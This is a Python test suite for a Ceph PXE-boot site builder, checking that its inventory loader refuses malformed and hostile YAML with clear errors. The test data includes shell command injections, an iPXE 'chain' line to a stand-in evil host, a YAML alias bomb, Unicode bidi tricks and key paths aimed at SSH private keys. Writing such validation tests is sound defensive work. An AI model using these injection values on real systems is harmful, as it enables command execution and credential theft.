"""Malformed and hostile inventories: each fails with a message naming file, key and what was expected, and changes nothing.

RUN cases go through a real `doit` on a copy of the fully built and published example
site: non-zero exit, a `cephboot:` message, no traceback, no task run, and every file
under build/ (the published tree included) and hosts/ as it was.  LOAD cases, the bulk,
call the loader itself (what every `doit` does first) on a copy of the example site.
"""
from __future__ import annotations

import hashlib
import os
import re
import shutil
import unicodedata
from pathlib import Path
from typing import Callable

import pytest

from builtsite import the_built_example  # noqa: F401  (fixture)
from conftest import PROJECT, Site, copy_project, copy_site
from tasks import inventory

Mutation = Callable[[Site], None]
Case = tuple[Mutation, list[str]] | tuple[Mutation, list[str], list[str]]


def edit(rel: str, old: str, new: str) -> Mutation:
    return lambda site: site.edit(rel, old, new)


def write(rel: str, text: str | bytes) -> Mutation:
    def apply(site: Site) -> None:
        p = site.hosts / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(text.encode() if isinstance(text, str) else text)
        if p.parent.name == "keys":
            p.chmod(0o600)

    return apply


def append(rel: str, text: str) -> Mutation:
    def apply(site: Site) -> None:
        with open(site.hosts / rel, "a") as f:
            f.write(text)

    return apply


def chmod(rel: str, mode: int) -> Mutation:
    return lambda site: (site.hosts / rel).chmod(mode)


def chown(rel: str, uid: int) -> Mutation:
    return lambda site: os.lchown(site.hosts / rel, uid, -1)


def remove(rel: str) -> Mutation:
    return lambda site: (site.hosts / rel).unlink()


def fifo(rel: str) -> Mutation:
    def apply(site: Site) -> None:
        (site.hosts / rel).unlink(missing_ok=True)
        os.mkfifo(site.hosts / rel)

    return apply


def folder(rel: str) -> Mutation:
    def apply(site: Site) -> None:
        p = site.hosts / rel
        shutil.rmtree(p) if p.is_dir() else p.unlink(missing_ok=True)
        p.mkdir()
        (p / "x").write_text("x\n")

    return apply


def link(rel: str, to: str) -> Mutation:
    def apply(site: Site) -> None:
        (site.hosts / rel).unlink()
        (site.hosts / rel).symlink_to(to)

    return apply


def in_site(rel: str, make: Callable[[Path], None]) -> Mutation:
    """Do ``make`` to a path relative to the site folder (not hosts/)."""
    return lambda site: make(site.root / rel)


def both(*ms: Mutation) -> Mutation:
    def apply(site: Site) -> None:
        for m in ms:
            m(site)

    return apply


Z, B, N = "nodes/zephyr.yaml", "nodes/boreas.yaml", "nodes/notus.yaml"
RACK, SECURE, SITE = "profiles/rack-a.yaml", "profiles/secure.yaml", "site.yaml"
ZMAC = '"52:54:00:a1:00:01"'
NMAC = '"52:54:00:a3:00:01"'
NUUID = "uuid: 0d6f3e90-6a36-4f0e-b1d7-3c2a9e5f7b44"


def to_notus(text: str) -> Mutation:
    return append(N, text)


def url(value: str) -> Mutation:
    return edit(SITE, "http_base: http://192.0.2.5/boot", f"http_base: {value}")


def target(value: str) -> Mutation:
    return edit(SITE, "  target: build/publish", f"  target: {value}")


def mons(value: str) -> Mutation:
    return edit(SITE, "mon_host: [192.0.2.11, 192.0.2.12, 192.0.2.13]", f"mon_host: {value}")


def boreas_address(value: str) -> Mutation:
    return edit(B, "address: 192.0.2.22/24", f"address: {value}")


def boreas_gateway(value: str) -> Mutation:
    return edit(B, "gateway: 192.0.2.1", f"gateway: {value}")


def notus_mac(value: str) -> Mutation:
    return edit(N, NMAC, value)


def site_key(section: str, text: str) -> Mutation:
    """Add ``text`` (indented lines) under the site's top-level ``section:``."""
    return edit(SITE, f"\n{section}:\n", f"\n{section}:\n{text}")


def bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, levels)]
    return "\n".join(lines) + f"\nkernel_args: *a{levels - 1}\n"


def deep_profiles(site: Site) -> None:
    for i in range(2000):
        (site.hosts / f"profiles/p{i}.yaml").write_text(f"profiles: [p{i + 1}]\n" if i < 1999 else "map:\n  deadline: 99\n")
    site.edit(Z, "profiles: [rack-a]", "profiles: [rack-a, p0]")


def planted_outside_key(site: Site) -> None:
    outside = site.root / "elsewhere.keyring"
    shutil.copy(site.hosts / "keys/notus.keyring", outside)
    outside.chmod(0o600)
    (site.hosts / "keys/notus.keyring").unlink()
    (site.hosts / "keys/notus.keyring").symlink_to(outside)


def foreign_target(site: Site) -> None:
    (site.root / "srv-www").mkdir()
    (site.root / "srv-www/index.html").write_text("someone else's\n")
    site.edit(SITE, "  target: build/publish", "  target: srv-www")


# --- cases run through doit: the whole run refuses and nothing changes ---------------------

RUN: dict[str, Case] = {
    "yaml-syntax": (edit(Z, "uuid:", "uuid: [unclosed"), ["hosts/nodes/zephyr.yaml", "not valid YAML", "line"]),
    "top-level-list": (write(Z, "- just\n- a list\n"), ["hosts/nodes/zephyr.yaml", "expected a mapping"]),
    "unknown-key": (edit(Z, "nics:", "nicz: {}\nnics:"), ["hosts/nodes/zephyr.yaml: nicz: unknown key", "expected one of"]),
    "misspelt-nested-key": (edit(Z, "    address: 192.0.2.21/24", "    adress: 192.0.2.21/24"), ["zephyr.yaml: nics.ceph.adress: unknown key", "nics.ceph.address: missing"]),
    "bad-mac": (edit(Z, ZMAC, '"52:54:00:zz:00:01"'), ["zephyr.yaml: nics.ceph.macs", "'52:54:00:zz:00:01'", "expected a MAC address"]),
    "mac-of-another-host": (edit(B, '"52:54:00:a2:00:01"', ZMAC), ["nics.ceph.macs: MAC 52:54:00:a1:00:01 is already used by host", "boreas.yaml", "zephyr.yaml"]),
    "address-mode-for-a-dhcp-host-from-the-site": (edit(SITE, "    mode: machine", "    mode: address"),
        ["hosts/nodes/notus.yaml: nics.ceph.address: 'dhcp': secrets.mode: address (hosts/site.yaml) serves the keys of host 'notus' only",
         "a host without one cannot use this mode"], ["zephyr", "boreas"]),
    "keyring-world-readable": (chmod("keys/notus.keyring", 0o644), ["notus.yaml: keyring", "mode 0644 lets group/others read a secret", "chmod 600"]),
    "kernel-arg-command-substitution": (edit(N, "net.ifnames=0", '"x=$(reboot)"'), ["notus.yaml: kernel_args", "'$'"]),
    "map-option-injection": (edit(SECURE, "ms_mode=secure", '"ms_mode=secure;reboot"'), ["hosts/profiles/secure.yaml: map.options", "krbd map option"]),
    "site-missing": (remove(SITE), ["hosts/site.yaml", "cannot read"]),
    # a name with a newline would carry a command into every header comment
    "profile-name-newline": (write("profiles/x\nchain http:.yaml", "map:\n  deadline: 99\n"), ["hosts/profiles/", "not a usable profile name"]),
    "host-name-newline": (write("nodes/ab\n.yaml", "nics: {}\n"), ["hosts/nodes/", "not a usable host name"]),
    # trailing newline: what a YAML `|` block yields
    "mac-trailing-newline": (notus_mac('"52:54:00:a3:00:01\\n"'), ["notus.yaml: nics.ceph.macs", "MAC address"]),
    "boot-path-trailing-newline": (to_notus('boot_path: "/hosts/notus\\n"\n'), ["notus.yaml: boot_path", "absolute CephFS path"]),
    "http-base-trailing-newline": (url('"http://192.0.2.5/boot\\n"'), ["hosts/site.yaml: pxe.http_base", "without spaces, control"]),
    # values that would break every host
    "http-base-port-zero": (url("http://192.0.2.5:0/boot"), ["hosts/site.yaml: pxe.http_base", "port from 1 to 65535"]),
    "http-base-port-too-big": (url("http://192.0.2.5:65536/boot"), ["hosts/site.yaml: pxe.http_base", "does not parse"]),
    "http-base-open-bracket": (url('"http://["'), ["hosts/site.yaml: pxe.http_base", "does not parse"]),
    "http-base-not-a-url": (url("a:b:c"), ["hosts/site.yaml: pxe.http_base", "expected an http:// URL"]),
    "http-base-https": (url("https://192.0.2.5/boot"), ["hosts/site.yaml: pxe.http_base", "https:// is not supported"]),
    # semantics
    "uuid-nil": (edit(N, NUUID, "uuid: 00000000-0000-0000-0000-000000000000"), ["notus.yaml: uuid", "all zeros or all ones"]),
    "mac-broadcast": (notus_mac('"ff:ff:ff:ff:ff:ff"'), ["notus.yaml: nics.ceph.macs", "unicast"]),
    "address-of-a-monitor": (boreas_address("192.0.2.11/24"), ["boreas.yaml: nics.ceph.address", "a monitor's address"]),
    "gateway-outside-subnet": (boreas_gateway("192.0.3.1"), ["boreas.yaml: nics.ceph.gateway", "outside 192.0.2.0/24"]),
    "monitor-empty-port": (mons("[192.0.2.11, '192.0.2.12:']"), ["hosts/site.yaml: ceph.mon_host", "monitor address"]),
    "kernel-cmdline-too-long": (to_notus("+kernel_args: [" + ", ".join(["a" * 1000] * 3) + "]\n"), ["notus.yaml: kernel_args", "the kernel keeps 2047"]),
    # where things go
    "target-is-the-site": (target("."), ["hosts/site.yaml: publish.target", "the site folder or a folder above it"]),
    "target-is-hosts": (target("hosts"), ["hosts/site.yaml: publish.target", "the site folder or a folder above it"]),
    "target-above-the-site": (target(".."), ["hosts/site.yaml: publish.target", "the site folder or a folder above it"]),
    "target-is-build": (target("build"), ["hosts/site.yaml: publish.target", "build/ itself"]),
    "target-inside-hosts": (target("hosts/keys"), ["hosts/site.yaml: publish.target", "inside hosts/"]),
    "target-foreign-folder": (foreign_target, ["hosts/site.yaml: publish.target", "no .cephboot-tree marker", "touch "]),
    # YAML that silently loses data
    "duplicate-site-section": (append(SITE, "ceph:\n  mon_host: [192.0.2.99]\n"), ["hosts/site.yaml", "duplicate key 'ceph' (first at line 4)"]),
    "two-files-one-host": (write("nodes/notus.yml", "nics: {}\n"), ["hosts/nodes/notus.yaml and hosts/nodes/notus.yml both define host 'notus'"]),
    # resource abuse
    "alias-bomb": (write(N, bomb()), ["hosts/nodes/notus.yaml", "more than 100000 values"]),
    "five-megabyte-value": (write(N, "kernel_args: [" + "x" * (5 << 20) + "]\n"), ["hosts/nodes/notus.yaml", "expected at most 1048576"]),
    # odd trees
    "nodes-is-a-file": (both(in_site("hosts/nodes", shutil.rmtree), write("nodes", "x\n")), ["hosts/nodes: is a regular file; expected a folder"]),
    "fifo-host-file": (fifo("nodes/fifo.yaml"), ["hosts/nodes/fifo.yaml: is a FIFO, not a regular file"]),
    "include-chain-2000-deep": (deep_profiles, ["hosts/profiles/", "nest more than 32 deep"]),
    "gid-ten-to-the-twentieth": (site_key("publish", "  group: 100000000000000000000\n"), ["hosts/site.yaml: publish.group", "gid from 0 to 4294967294"]),
    # late checks: found before the first write
    "kernel-not-installed": (to_notus("kernel: 9.9.9-1-amd64\n"), ["notus.yaml: kernel: '9.9.9-1-amd64' is not installed", "apt-get install linux-image-amd64"]),
    "kernel-as-a-number": (to_notus("kernel: 6.1\n"), ["notus.yaml: kernel", "write it in quotes"]),
    "empty-boot-dir": (both(in_site("build/no-kernels", lambda p: p.mkdir()), site_key("kernels", "  boot_dir: build/no-kernels\n")), ["hosts/site.yaml: kernels.boot_dir", "no kernel is installed in build/no-kernels"]),
    # messages blame the file that set the value, and never quote a secret file
    "profile-appends-bad-arg": (edit(RACK, "+kernel_args: [quiet]", '+kernel_args: [quiet, "a;b"]'), ["hosts/profiles/rack-a.yaml: kernel_args: item 3"], ["zephyr.yaml: kernel_args", "boreas.yaml: kernel_args"]),
    "keyring-that-is-not-one": (write("keys/notus.keyring", "[secret-section-name]\nkey = hunter2\n"), ["notus.yaml: keyring", "expected one [client.notus] section, or [client.notus.rN] after `doit rotate`"], ["secret-section-name", "hunter2"]),
    # issue 16, finding 4: layouts that break isolation
    "two-hosts-one-namespace": (to_notus("rbd:\n  namespace: zephyr\n  image: other\n"), ["rbd.namespace: RBD namespace rbd/zephyr is already used by host", "hosts/nodes/notus.yaml", "hosts/nodes/zephyr.yaml"], ["hosts/site.yaml"]),
    "boot-path-nested": (to_notus("boot_path: /hosts/zephyr/notus\n"), ["notus.yaml: boot_path", "of host 'notus' is inside /hosts/zephyr, the /boot of host 'zephyr' (hosts/nodes/zephyr.yaml: boot_path)"]),
    "boot-path-is-the-tree": (to_notus("boot_path: /tree\n"), ["notus.yaml: boot_path", "/tree is the published boot tree", "set ceph.boot_tree to its own folder"]),
    "boot-tree-is-the-root": (edit(SITE, "boot_tree: /tree", "boot_tree: /"), ["hosts/site.yaml: ceph.boot_tree", "cannot be the file system's root", "e.g. /tree"]),
    "client-admin": (to_notus("client: admin\n"), ["notus.yaml: client", "'admin' is reserved"]),
    "rootfs-source-slash": (to_notus("rootfs:\n  source: /\n"), ["notus.yaml: rootfs.source", "the build machine's own root"]),
    # issue 16, finding 6: key paths
    "keyring-absolute": (to_notus("keyring: /etc/ssh/ssh_host_ed25519_key\n"), ["notus.yaml: keyring", "not an absolute one"]),
    "keyring-link-out-of-hosts": (planted_outside_key, ["notus.yaml: keyring", "leads out of hosts/"]),
    "luks-keyfile-dotdot": (edit(B, "keyfile: keys/boreas.luks", "keyfile: ../../root/.ssh/id_ed25519"), ["boreas.yaml: luks.keyfile", "no '..'"]),
    # stop 24 audit: YAML 1.1 integers that became other names; problems said once, at most 50 of them
    "image-name-in-octal": (to_notus("rbd:\n  image: 0100\n"),
        ["\n  hosts/nodes/notus.yaml: rbd.image: 0100 (line 10) is read by YAML 1.1 as the octal number 64: write it as a decimal number, or in quotes for a name or a file mode\n"]),
    "sixty-thousand-mistyped-keys": (write(N, "".join(f"k{i}: 1\n" for i in range(60_000))),
        ["invalid inventory:\n  hosts/nodes/notus.yaml: k0: unknown key; expected one of: name, uuid,", "\n  ... and 59952 more problems\n"], ["k50: "]),
    "dhcp-range-and-router-outside-the-network": (site_key("dhcp", "  mode: server\n  range: [10.0.0.1, 10.0.0.5]\n  router: 10.9.9.9\n"),
        ["\n  hosts/site.yaml: dhcp.range: 10.0.0.1 is outside dhcp.network 192.0.2.0/24: dnsmasq would lease no address of this range to a machine there; expected [first, last] host addresses inside it\n",
         "\n  hosts/site.yaml: dhcp.router: 10.9.9.9 is outside dhcp.network 192.0.2.0/24: no machine there could reach it; expected a gateway address inside it\n"]),
    # stop 24 audit: an IPv6 zone (scope ID) took nearly any character into nginx's listen line
    "http-base-ipv6-zone-injection": (url("\"http://[fe80::1%a;$(reboot)'${x},b{}]/boot\""), ["hosts/site.yaml: pxe.http_base", "without '%'", "zone (scope ID)"]),
    # C1 controls and Unicode format characters: an 8-bit CSI into boot.ipxe, a bidi override into nginx.conf
    "kernel-arg-8-bit-csi": (edit(N, "net.ifnames=0", '"a=\\x9b31mX"'), ["hosts/nodes/notus.yaml: kernel_args: item 2", "'\\x9b' (control)"]),
    "web-root-bidi-override": (site_key("publish", '  web_root: "/srv/ZZ\\u202e\\x9b"\n'), ["hosts/site.yaml: publish.web_root", "'\\u202e' (RIGHT-TO-LEFT OVERRIDE)"], ["\u202e"]),
    # 2048 bytes, not characters: non-ASCII is refused on the command line (firmware consoles are not UTF-8)
    "kernel-args-non-ascii-long": (to_notus('+kernel_args: ["a=' + "é" * 1000 + '", "b=' + "€" * 950 + '"]\n'), ["notus.yaml: kernel_args: item 3", "printable ASCII only"]),
}

# --- cases checked by the loader alone (every doit run starts with it) ---------------------

LOAD: dict[str, Case] = {
    "boot-loader-unknown": (to_notus("boot:\n  loader: pxelinux\n"), ["notus.yaml: boot.loader", "expected one of: ipxe, grub-secureboot"]),
    "boot-loader-not-a-mapping": (to_notus("boot: grub-secureboot\n"), ["notus.yaml: boot", "mapping"]),
    "no-macs": (edit(B, 'macs: ["52:54:00:a2:00:01"]', "macs: []"), ["boreas.yaml: nics.ceph.macs", "at least 1"]),
    "repeated-mac-in-host": (edit(Z, '"52:54:00:a1:00:02"', ZMAC), ["zephyr.yaml: nics.ceph.macs", "no repeated items"]),
    "user-nic-shares-ceph-mac": (edit(Z, '"52:54:00:a1:01:01"', ZMAC), ["zephyr.yaml: nics.user.macs", "shares a MAC"]),
    "uuid-of-another-host": (edit(N, NUUID, "uuid: 4c4c4544-0042-3510-8048-b4c04f4a4d32"), ["UUID 4c4c4544-0042-3510-8048-b4c04f4a4d32 is already used by host"]),
    "bad-uuid": (edit(N, NUUID, "uuid: not-a-uuid"), ["notus.yaml: uuid", "expected a UUID"]),
    "ip-of-another-host": (boreas_address("192.0.2.21/24"), ["nics.ceph.address: IP address 192.0.2.21 is already used by host", "boreas.yaml", "zephyr.yaml"]),
    "address-without-prefix": (boreas_address("192.0.2.22"), ["boreas.yaml: nics.ceph.address", "with prefix"]),
    "network-address": (boreas_address("192.0.2.0/24"), ["boreas.yaml: nics.ceph.address", "not the network's own or broadcast"]),
    "gateway-with-dhcp": (edit(N, "address: dhcp", "address: dhcp\n    gateway: 192.0.2.1"), ["notus.yaml: nics.ceph.gateway", "only allowed with a static address"]),
    "bad-gateway": (boreas_gateway("192.0.2.1; reboot"), ["boreas.yaml: nics.ceph.gateway", "expected an IPv4 address"]),
    "client-of-another-host": (both(edit(B, "map:", "client: zephyr\nmap:"), edit(B, "luks:", "keyring: keys/zephyr.keyring\nluks:")), ["client: client zephyr is already used by host"]),
    "unsafe-file-name": (write("nodes/Bad_Name.yaml", "nics: {}\n"), ["hosts/nodes/Bad_Name.yaml", "not a usable host name", "safe as a file name"]),
    "name-mismatch": (edit(N, "uuid:", "name: other\nuuid:"), ["notus.yaml: name: 'other' does not match the file name 'notus'"]),
    "keyring-missing": (remove("keys/notus.keyring"), ["notus.yaml: keyring: 'keys/notus.keyring': file not found"]),
    "keyring-group-readable": (chmod("keys/zephyr.keyring", 0o640), ["zephyr.yaml: keyring", "mode 0640"]),
    "keyring-other-client": (write("keys/notus.keyring", "[client.zephyr]\n\tkey = AQBQhgdr+jsFMhAAvvAmFd5c1M0g92SZSfVdGA==\n"), ["notus.yaml: keyring", "expected one [client.notus] section, or [client.notus.rN] after `doit rotate`"], ["client.zephyr"]),
    "keyring-bad-key": (write("keys/notus.keyring", "[client.notus]\n\tkey = $(reboot)\n"), ["notus.yaml: keyring", "not valid base64"], ["reboot"]),
    "kernel-arg-semicolon": (edit(N, "net.ifnames=0", '"net.ifnames=0;reboot"'), ["notus.yaml: kernel_args", "';'", "not allowed"]),
    "kernel-arg-backquote": (edit(N, "net.ifnames=0", '"x=`reboot`"'), ["notus.yaml: kernel_args", "'`'"]),
    "kernel-arg-newline": (edit(N, "net.ifnames=0", '"a\\nchain http://203.0.113.9/evil"'), ["notus.yaml: kernel_args", "control/space"]),
    "kernel-arg-quote": (edit(N, "net.ifnames=0", "\"a'b\""), ["notus.yaml: kernel_args", "\"'\""]),
    "image-name-with-slash": (to_notus("rbd:\n  image: ../root\n"), ["notus.yaml: rbd.image", "a Ceph name"]),
    "namespace-with-quote": (to_notus("rbd:\n  namespace: \"ns'x\"\n"), ["notus.yaml: rbd.namespace", "a Ceph name"]),
    "map-method": (edit(B, "method: sysfs", "method: nbd"), ["boreas.yaml: map.method", "expected one of: cli, sysfs"]),
    "deadline-negative": (edit(RACK, "deadline: 180", "deadline: -5"), ["hosts/profiles/rack-a.yaml: map.deadline", "whole number of seconds"]),
    "deadline-string": (edit(SITE, "deadline: 120", "deadline: soon"), ["hosts/site.yaml: map.deadline", "whole number"]),
    "missing-profile": (edit(Z, "profiles: [rack-a]", "profiles: [rack-b]"), ["zephyr.yaml: profiles: 'rack-b': no such profile", "rack-a"]),
    "profile-cycle": (both(write("profiles/a.yaml", "profiles: [b]\n"), write("profiles/b.yaml", "profiles: [a]\n"), edit(Z, "profiles: [rack-a]", "profiles: [a]")), ["include cycle: a -> b -> a"]),
    "append-to-non-list": (edit(RACK, "+kernel_args: [quiet]", "+kernel_args: quiet"), ["kernel_args", "appends a list"]),
    "site-fsid-missing": (edit(SITE, "  fsid: 8f0c0a52-3c1e-4e8b-9a57-5d0b7f1e2a10\n", ""), ["hosts/site.yaml: ceph.fsid: missing"]),
    "site-mon-host-port": (mons("[192.0.2.11, '192.0.2.12:99999']"), ["hosts/site.yaml: ceph.mon_host", "monitor address"]),
    "site-url-injection": (url("http://192.0.2.5/boot${x}"), ["hosts/site.yaml: pxe.http_base", "URL"]),
    "luks-without-keyfile": (edit(B, "  keyfile: keys/boreas.luks\n", ""), ["boreas.yaml: luks.keyfile: missing"]),
    "luks-key-readable": (chmod("keys/boreas.luks", 0o604), ["boreas.yaml: luks.keyfile", "mode 0604"]),
    # another local user who owns a key file, or may write a folder above it, chooses the key
    "keyring-owned-by-another": (chown("keys/notus.keyring", 65534), ["notus.yaml: keyring", "owned by uid 65534", "its owner could choose the key"]),
    "luks-key-owned-by-another": (chown("keys/boreas.luks", 65534), ["boreas.yaml: luks.keyfile", "owned by uid 65534"]),
    "keys-folder-writable": (chmod("keys", 0o777), ["keyring", "/hosts/keys is writable by group and others (mode 0777)", "could swap the secret"]),
    "hosts-folder-group-writable": (chmod(".", 0o775), ["keyring", "/hosts is writable by group (mode 0775)"]),
    "keys-folder-owned-by-another": (chown("keys", 65534), ["keyring", "/hosts/keys is owned by uid 65534"]),
    "luks-key-empty": (write("keys/boreas.luks", b""), ["boreas.yaml: luks.keyfile", "the key file is empty"]),
    "image-root-is-slash": (to_notus("image_root: /\n"), ["notus.yaml: image_root", "build machine's own root"]),
    "boot-path-escape": (to_notus("boot_path: /hosts/../zephyr\n"), ["notus.yaml: boot_path", "'..'"]),
    "kernel-version-path": (to_notus("kernel: ../../etc\n"), ["notus.yaml: kernel", "kernel version"]),
    "rbd-size": (to_notus("rbd:\n  size: 10 GB\n"), ["notus.yaml: rbd.size", "a size like"]),
    "rbd-size-huge": (to_notus("rbd:\n  size: 99999999999999999999T\n"), ["notus.yaml: rbd.size", "at most 6 digits"]),
    "ceph-nic-missing": (edit(N, "  ceph:\n    macs", "  cepf:\n    macs"), ["notus.yaml: nics.cepf: unknown key", "nics.ceph.macs: missing"]),
    # trailing newline, key by key
    **{f"trailing-newline-{key.replace('.', '-')}": (mutation, [f"{file}: {key}"]) for key, file, mutation in [
        ("rbd.pool", "notus.yaml", to_notus('rbd:\n  pool: "rbd\\n"\n')),
        ("rbd.namespace", "notus.yaml", to_notus('rbd:\n  namespace: "notus\\n"\n')),
        ("rbd.image", "notus.yaml", to_notus('rbd:\n  image: "root\\n"\n')),
        ("rbd.size", "notus.yaml", to_notus('rbd:\n  size: "10G\\n"\n')),
        ("kernel", "notus.yaml", to_notus('kernel: "latest\\n"\n')),
        ("client", "notus.yaml", to_notus('client: "notus\\n"\n')),
        ("uuid", "notus.yaml", edit(N, NUUID, 'uuid: "0d6f3e90-6a36-4f0e-b1d7-3c2a9e5f7b44\\n"')),
        ("map.options", "secure.yaml", edit(SECURE, "ms_mode=secure", '"ms_mode=secure\\n"')),
        ("luks.name", "boreas.yaml", edit(B, "name: cryptroot", 'name: "cryptroot\\n"')),
        ("rootfs.suite", "notus.yaml", to_notus('rootfs:\n  suite: "bookworm\\n"\n')),
        ("rootfs.packages", "notus.yaml", to_notus('rootfs:\n  packages: ["zstd\\n"]\n')),
        ("keyring", "notus.yaml", to_notus('keyring: "keys/notus.keyring\\n"\n')),
        ("ceph.fs_name", "hosts/site.yaml", edit(SITE, "fs_name: boot", 'fs_name: "boot\\n"')),
        ("ceph.boot_tree", "hosts/site.yaml", edit(SITE, "boot_tree: /tree", 'boot_tree: "/tree\\n"')),
        ("ceph.mon_host", "hosts/site.yaml", mons('["192.0.2.11\\n"]')),
        ("kernels.nic_modules", "hosts/site.yaml", site_key("kernels", '  nic_modules: ["virtio_net\\n"]\n')),
        ("publish.group", "hosts/site.yaml", site_key("publish", '  group: "www-data\\n"\n')),
        ("publish.secret_mode", "hosts/site.yaml", site_key("publish", '  secret_mode: "0640\\n"\n')),
    ]},
    # URLs iPXE and nginx must read alike
    "http-base-user": (url("http://user:pw@192.0.2.5/boot"), ["pxe.http_base", "without user, password, query or fragment"]),
    "http-base-query": (url("http://192.0.2.5/boot?x=1"), ["pxe.http_base", "without user, password, query or fragment"]),
    "http-base-empty-port": (url("http://192.0.2.5:/boot"), ["pxe.http_base", "port from 1 to 65535"]),
    "http-base-dotdot": (url("http://192.0.2.5/a/../boot"), ["pxe.http_base", "no '.', '..'"]),
    "http-base-percent": (url("http://192.0.2.5/a%20b"), ["pxe.http_base", "'%' escapes"]),
    "http-base-double-slash": (url("http://192.0.2.5//boot"), ["pxe.http_base", "single '/'"]),
    "http-base-ftp": (url("ftp://192.0.2.5/boot"), ["pxe.http_base", "expected an http:// URL"]),
    "http-base-bad-ipv4": (url("http://999.1.1.1/boot"), ["pxe.http_base", "host name or IPv4 address"]),
    "http-base-underscore-host": (url("http://boot_server/boot"), ["pxe.http_base", "host name or IPv4 address"]),
    "http-base-bad-ipv6": (url("http://[fe80::zz]/boot"), ["pxe.http_base"]),
    "http-base-non-ascii": (url("http://bööt.example/boot"), ["pxe.http_base", "non-ASCII"]),
    # UUIDs and MACs that would route the wrong machines
    "uuid-all-ones": (edit(N, NUUID, "uuid: FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF"), ["notus.yaml: uuid", "all zeros or all ones"]),
    "uuid-without-dashes": (edit(N, NUUID, "uuid: 0d6f3e906a364f0eb1d73c2a9e5f7b44"), ["notus.yaml: uuid", "expected a UUID like"]),
    "mac-multicast": (notus_mac('"01:00:5e:00:00:01"'), ["notus.yaml: nics.ceph.macs", "multicast"]),
    "mac-odd-first-octet": (notus_mac('"53:54:00:a3:00:01"'), ["notus.yaml: nics.ceph.macs", "multicast"]),
    "mac-zero": (notus_mac('"00:00:00:00:00:00"'), ["notus.yaml: nics.ceph.macs", "all zeros"]),
    # addresses, gateways, monitors
    "prefix-zero": (boreas_address("192.0.2.22/0"), ["boreas.yaml: nics.ceph.address", "prefix from /1 to /30"]),
    "prefix-32": (boreas_address("192.0.2.22/32"), ["boreas.yaml: nics.ceph.address", "prefix from /1 to /30"]),
    "prefix-31": (boreas_address("192.0.2.22/31"), ["boreas.yaml: nics.ceph.address", "prefix from /1 to /30"]),
    "address-loopback": (boreas_address("127.0.0.22/8"), ["boreas.yaml: nics.ceph.address", "loopback"]),
    "address-multicast": (boreas_address("224.0.0.22/24"), ["boreas.yaml: nics.ceph.address", "multicast"]),
    "address-unspecified": (boreas_address("0.0.0.0/8"), ["boreas.yaml: nics.ceph.address", "unspecified"]),
    "address-reserved": (boreas_address("240.0.0.22/24"), ["boreas.yaml: nics.ceph.address", "reserved"]),
    "address-leading-zeros": (boreas_address("192.0.2.022/24"), ["boreas.yaml: nics.ceph.address"]),
    "gateway-is-the-host": (boreas_gateway("192.0.2.22"), ["boreas.yaml: nics.ceph.gateway", "the host's own address"]),
    "gateway-network-address": (boreas_gateway("192.0.2.0"), ["boreas.yaml: nics.ceph.gateway", "network or broadcast"]),
    "gateway-broadcast": (boreas_gateway("192.0.2.255"), ["boreas.yaml: nics.ceph.gateway", "network or broadcast"]),
    "gateway-loopback": (boreas_gateway("127.0.0.1"), ["boreas.yaml: nics.ceph.gateway", "loopback"]),
    "user-gateway-outside": (edit(Z, "gateway: 198.51.100.1", "gateway: 203.0.113.1"), ["zephyr.yaml: nics.user.gateway", "outside 198.51.100.0/24"]),
    "monitor-unspecified": (mons("[0.0.0.0]"), ["hosts/site.yaml: ceph.mon_host", "unspecified"]),
    "monitor-non-ascii-port": (mons("['192.0.2.11:６７８９']"), ["hosts/site.yaml: ceph.mon_host", "ASCII digits"]),
    "monitor-port-zero": (mons("['192.0.2.11:0']"), ["hosts/site.yaml: ceph.mon_host", "port 1-65535"]),
    "monitor-loopback": (mons("[127.0.0.1]"), ["hosts/site.yaml: ceph.mon_host", "loopback"]),
    "monitor-multicast": (mons("[224.0.0.1]"), ["hosts/site.yaml: ceph.mon_host", "multicast"]),
    "monitor-none": (mons("[]"), ["hosts/site.yaml: ceph.mon_host", "at least 1"]),
    # Unicode that changes how a line reads or where it ends, in every key that takes free text
    **{f"unicode-{name}-in-{key.replace('.', '-').replace('_', '-')}": (mutation, [f"{file}: {key}", shown])
       for name, char, shown in [("zero-width-space", "\\u200b", "ZERO WIDTH SPACE"), ("line-separator", "\\u2028", "LINE SEPARATOR"),
                                 ("paragraph-separator", "\\u2029", "PARAGRAPH SEPARATOR"), ("bidi-isolate", "\\u2066", "LEFT-TO-RIGHT ISOLATE"),
                                 ("byte-order-mark", "\\ufeff", "ZERO WIDTH NO-BREAK SPACE"), ("next-line", "\\x85", "'\\x85' (control")]
       for key, file, mutation in [
           ("kernel_args", "notus.yaml", edit(N, "net.ifnames=0", f'"net.ifnames=0{char}"')),
           ("publish.web_root", "hosts/site.yaml", site_key("publish", f'  web_root: "/srv/boot{char}x"\n')),
           ("publish.target", "hosts/site.yaml", target(f'"build/pub{char}lish"')),
           ("kernels.boot_dir", "hosts/site.yaml", site_key("kernels", f'  boot_dir: "/boot{char}"\n')),
       ]},
    "http-base-ipv6-zone": (url("http://[fe80::1%25eth0]/boot"), ["hosts/site.yaml: pxe.http_base", "without '%'"]),
    "http-base-ipv6-zone-plain": (url('"http://[fe80::1%eth0]:8080/boot"'), ["hosts/site.yaml: pxe.http_base", "without '%'"]),
    "kernel-arg-non-ascii-letter": (edit(N, "net.ifnames=0", '"x=caf\u00e9"'), ["notus.yaml: kernel_args", "'\\xe9' (LATIN SMALL LETTER E WITH ACUTE)", "printable ASCII only"]),
    "kernel-cmdline-many-args": (to_notus("+kernel_args: [" + ", ".join([f"arg{i}=" + "v" * 60 for i in range(40)]) + "]\n"), ["notus.yaml: kernel_args", "bytes"]),
    # where things go
    "target-slash": (target("/"), ["publish.target", "the site folder or a folder above it"]),
    "target-build-dotdot": (target("build/.."), ["publish.target", "the site folder or a folder above it"]),
    "target-is-a-file": (both(write("../afile", "x"), target("afile")), ["publish.target", "is a regular file; expected a folder"]),
    "target-link-to-the-site": (both(in_site("tree-link", lambda p: p.symlink_to(".")), target("tree-link")), ["publish.target", "the site folder or a folder above it"]),
    # YAML that loses data
    "duplicate-nested-key": (edit(N, "    address: dhcp", "    address: dhcp\n    address: 192.0.2.23/24"), ["hosts/nodes/notus.yaml", "duplicate key 'address'"]),
    "duplicate-top-key-in-host": (append(N, "monolithic: false\n"), ["hosts/nodes/notus.yaml", "duplicate key 'monolithic'"]),
